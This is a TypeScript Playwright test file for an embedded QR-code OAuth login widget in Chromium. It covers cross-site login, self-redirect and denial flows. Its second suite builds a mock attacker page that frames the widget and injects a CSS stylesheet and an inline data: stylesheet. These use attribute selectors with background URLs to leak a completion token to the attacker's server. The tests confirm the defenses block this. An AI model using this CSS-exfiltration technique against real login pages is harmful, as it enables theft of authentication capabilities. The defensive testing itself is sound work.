import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeIframeQr, launchChromium, skipUnlessChromium } from '../browser/support.js';
import type { TestProvider } from '../support/harness.js';
import { skipUnlessPostgres, skipUnlessRedis } from '../support/services.js';
import { signedInPhone, sns, startWechatProvider } from './support.js';
import { closeStarted } from '../support/harness.js';

/**
 * wxLogin.js in real Chromium, across sites: the site's page on http://127.0.0.1:<port>, the
 * provider on http://localhost:<port> — different sites, so the QR iframe is a third-party
 * context whose provider cookies Chromium would neither store nor send, and whose script may not
 * navigate the top window without a click (framebusting intervention).
 */
const servicesMissing = skipUnlessChromium() || (await skipUnlessPostgres()) || (await skipUnlessRedis());

/** The site: a login page that embeds the QR with WeChat's snippet, and its callback page. */
function startSite(issuer: string, appId: () => string) {
  const server = http.createServer((req, res) => {
    const url = new URL(req.url!, 'http://127.0.0.1');
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    if (url.pathname === '/login') {
      const selfRedirect = url.searchParams.get('self_redirect') === 'true';
      const redirectUri = url.searchParams.get('redirect') ?? `${base}/wechat/callback`;
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><html><head><title>Site login</title>
        <script src="${issuer}/connect/wxLogin.js"></script></head>
        <body><h1>Site</h1><div id="login_container"></div>
        <script>
          window.wxReady = false;
          new WxLogin({
            self_redirect: ${selfRedirect},
            id: 'login_container',
            appid: ${JSON.stringify(appId())},
            scope: 'snsapi_login',
            redirect_uri: encodeURIComponent(${JSON.stringify(redirectUri)}),
            state: ${JSON.stringify(url.searchParams.get('state') ?? 'STATE')},
            style: 'black',
            href: '',
            onReady: function () { window.wxReady = true; }
          });
        </script></body></html>`);
      return;
    }
    if (url.pathname === '/wechat/callback') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><title>Callback</title><p id="result">code=${url.searchParams.get('code') ?? ''}</p>`);
      return;
    }
    res.writeHead(404).end();
  });
  return new Promise<{ url: string; close(): Promise<void> }>((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve({
        url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
        close: () => new Promise<void>((r) => server.close(() => r())),
      }),
    ),
  );
}

/** Resolves when the iframe's script reports the given status (seen on the wire, not in the frame). */
const statusSeen = (page: Page, status: string) =>
  page.waitForResponse(async (r) => /\/connect\/embed\/[^/]+\/status/.test(r.url()) && (await r.text().catch(() => '')).includes(`"status":"${status}"`), {
    timeout: 15_000,
  });

describe.skipIf(servicesMissing)('wxLogin.js in Chromium: an embedded QR login across sites (PostgreSQL + Redis)', () => {
  let p: TestProvider;
  let browser: Browser;
  let context: BrowserContext;
  let site: Awaited<ReturnType<typeof startSite>>;
  let app: { appId: string; appSecret: string };

  beforeAll(async () => {
    p = await startWechatProvider('services');
    site = await startSite(p.issuer, () => app.appId);
    app = await p.saoma.apps.create({ name: 'Embedding Site', redirectUris: [`${site.url}/oidc/callback`], callbackDomain: new URL(site.url).host });
    browser = await launchChromium();
  });
  afterAll(async () => {
    await closeStarted(browser, site, p);
  });

  async function openLogin(query: string) {
    context = await browser.newContext({ locale: 'zh-CN' });
    const page = await context.newPage();
    const polling = page.waitForRequest((r) => /\/connect\/embed\/[^/]+\/status/.test(r.url()));
    await page.goto(`${site.url}/login?${query}`);
    await polling; // the iframe's script is live
    await page.waitForFunction(() => (window as unknown as { wxReady?: boolean }).wxReady === true);
    return { page };
  }

  it('puts the QR in an iframe on the site; after the phone confirms, the top window lands on redirect_uri?code&state', async () => {
    const phone = await signedInPhone(p);
    const { page } = await openLogin('state=TOP1');
    const payload = await decodeIframeQr(page);
    expect(payload.startsWith(`${p.issuer}/q/`)).toBe(true);

    const scannedSeen = statusSeen(page, 'scanned');
    const { qrId } = (await (await phone.scan(payload)).json()) as { qrId: string };
    await scannedSeen; // the iframe heard the scan
    await phone.confirm(qrId);
    await page.waitForURL((u) => u.pathname === '/wechat/callback', { timeout: 15_000 });

    const landed = new URL(page.url());
    expect(landed.origin).toBe(site.url);
    expect([...landed.searchParams.keys()]).toEqual(['code', 'state']);
    expect(landed.searchParams.get('state')).toBe('TOP1');
    const tokens = await sns(p, 'oauth2/access_token', {
      appid: app.appId,
      secret: app.appSecret,
      code: landed.searchParams.get('code')!,
      grant_type: 'authorization_code',
    });
    expect(tokens.body).toMatchObject({ expires_in: 7200, scope: 'snsapi_login' });
    expect(tokens.body.openid).toMatch(/^o/);
    // The whole embedded login ran without the provider setting a single cookie.
    expect(await context.cookies(p.issuer)).toEqual([]);
    await context.close();
  });

  it('with self_redirect: true, the iframe goes to redirect_uri?code&state and the top window stays', async () => {
    const phone = await signedInPhone(p);
    const { page } = await openLogin('self_redirect=true&state=SELF1');
    const { qrId } = (await (await phone.scan(await decodeIframeQr(page))).json()) as { qrId: string };
    await phone.confirm(qrId);
    await expect.poll(() => page.frames().some((f) => f.url().startsWith(`${site.url}/wechat/callback`)), { timeout: 15_000 }).toBe(true);
    const inFrame = new URL(
      page
        .frames()
        .find((f) => f.url().startsWith(`${site.url}/wechat/callback`))!
        .url(),
    );
    expect(inFrame.searchParams.get('state')).toBe('SELF1');
    expect(inFrame.searchParams.get('code')).toBeTruthy();
    expect(new URL(page.url()).pathname).toBe('/login');
    const tokens = await sns(p, 'oauth2/access_token', {
      appid: app.appId,
      secret: app.appSecret,
      code: inFrame.searchParams.get('code')!,
      grant_type: 'authorization_code',
    });
    expect(tokens.body.access_token).toBeTruthy();
    await context.close();
  });

  it('sends the top window to redirect_uri?state=STATE when the person denies on the phone', async () => {
    const phone = await signedInPhone(p);
    const { page } = await openLogin('state=NO1');
    const { qrId } = (await (await phone.scan(await decodeIframeQr(page))).json()) as { qrId: string };
    await phone.deny(qrId);
    await page.waitForURL((u) => u.pathname === '/wechat/callback', { timeout: 15_000 });
    expect(new URL(page.url()).search).toBe('?state=NO1');
    await context.close();
  });
});

/**
 * An attacker's page: frames the embedded QR with a stylesheet of its own whose attribute
 * selectors would send the completion URL, piece by piece, to the attacker's server. Everything
 * the attacker's server is asked for is recorded.
 */
function startAttacker(issuer: string, appId: () => string, callback: () => string) {
  const seen: string[] = [];
  const server = http.createServer((req, res) => {
    const url = new URL(req.url!, 'http://127.0.0.1');
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    seen.push(url.pathname + url.search);
    if (url.pathname === '/leak.css') {
      // Probe every place a capability could sit: attributes of the Continue control, links, the config block.
      const rules = ['#wx-continue[href]', 'a[href*="/complete"]', 'a[href*="/connect/embed/"]', 'script#wx-config', '[data-token]']
        .map((sel, i) => `${sel} { background: url(${base}/leak?rule=${i}) !important; display: block !important; }`)
        .join('\n');
      res.writeHead(200, { 'content-type': 'text/css' }).end(rules);
      return;
    }
    if (url.pathname === '/frame') {
      const src = `${issuer}/connect/qrconnect?${new URLSearchParams({ appid: appId(), redirect_uri: callback(), scope: 'snsapi_login', state: 'EVIL', login_type: 'jssdk', self_redirect: 'default', href: `${base}/leak.css`, parent_origin: base })}`;
      res
        .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
        .end(`<!doctype html><title>Win a prize</title><iframe id="victim" src="${src}" width="300" height="400"></iframe>`);
      return;
    }
    res.writeHead(404).end();
  });
  return new Promise<{ url: string; seen: string[]; close(): Promise<void> }>((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, close: () => new Promise<void>((r) => server.close(() => r())) }),
    ),
  );
}

describe.skipIf(servicesMissing)("the embedded QR against an attacker's page on another origin (PostgreSQL + Redis)", () => {
  let p: TestProvider;
  let browser: Browser;
  let site: Awaited<ReturnType<typeof startSite>>;
  let attacker: Awaited<ReturnType<typeof startAttacker>>;
  let app: { appId: string; appSecret: string };

  beforeAll(async () => {
    p = await startWechatProvider('services');
    site = await startSite(p.issuer, () => app.appId);
    attacker = await startAttacker(
      p.issuer,
      () => app.appId,
      () => `${site.url}/wechat/callback`,
    );
    // The callback domain pins the site's port: the attacker's page (another port) is another origin.
    app = await p.saoma.apps.create({ name: 'Pinned Site', redirectUris: [`${site.url}/oidc/callback`], callbackDomain: new URL(site.url).host });
    browser = await launchChromium();
  });
  afterAll(async () => {
    await closeStarted(browser, attacker, site, p);
  });

  it("refuses to be framed by a page that is not the app's, so the attacker's stylesheet never loads", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const refused = page.waitForEvent('console', { predicate: (m) => /frame-ancestors/.test(m.text()), timeout: 10_000 });
    await page.goto(`${attacker.url}/frame`);
    await refused; // Chromium reports the CSP refusal
    await page.waitForTimeout(300);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(
      await frame
        ?.locator('#wx-root')
        .count()
        .catch(() => 0),
    ).toBe(0);
    expect(attacker.seen.filter((u) => u.startsWith('/leak'))).toEqual([]);
    await context.close();
  });

  it('opened top-level through a link, takes no stylesheet and keeps the completion capability out of the page, yet completes', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const leak = `${attacker.url}/leak.css`;
    const inline = `data:text/css,${encodeURIComponent(`#wx-continue, script, a { background: url(${attacker.url}/leak?inline) !important; display: block !important; }`)}`;
    const open = async (href: string) => {
      const url = `${p.issuer}/connect/qrconnect?${new URLSearchParams({ appid: app.appId, redirect_uri: `${site.url}/wechat/callback`, scope: 'snsapi_login', state: 'LINK', login_type: 'jssdk', href })}`;
      const polling = page.waitForRequest((r) => /\/connect\/embed\/[^/]+\/status/.test(r.url()));
      await page.goto(url);
      return /\/connect\/embed\/([^/]+)\/status/.exec((await polling).url())![1];
    };
    await open(leak);
    const token = await open(inline);
    const phone = await signedInPhone(p);
    const scanned = statusSeen(page, 'scanned');
    const { qrId } = (await (await phone.scan((await page.locator('#wx-qr-link').getAttribute('href')) ?? '')).json()) as { qrId: string };
    await scanned;
    // Nothing a stylesheet could read holds the token: no attribute, no text.
    expect(await page.evaluate(() => document.documentElement.outerHTML)).not.toContain(token);
    expect(await page.locator('#wx-continue').getAttribute('href')).toBeNull();
    expect(attacker.seen.filter((u) => u.startsWith('/leak'))).toEqual([]);
    // The page itself is the top window: once confirmed it goes on to the site by itself.
    const landing = page.waitForURL((u) => u.href.startsWith(`${site.url}/wechat/callback?code=`), { timeout: 15_000 });
    await phone.confirm(qrId);
    await landing;
    expect(new URL(page.url()).searchParams.get('state')).toBe('LINK');
    await context.close();
  });
});
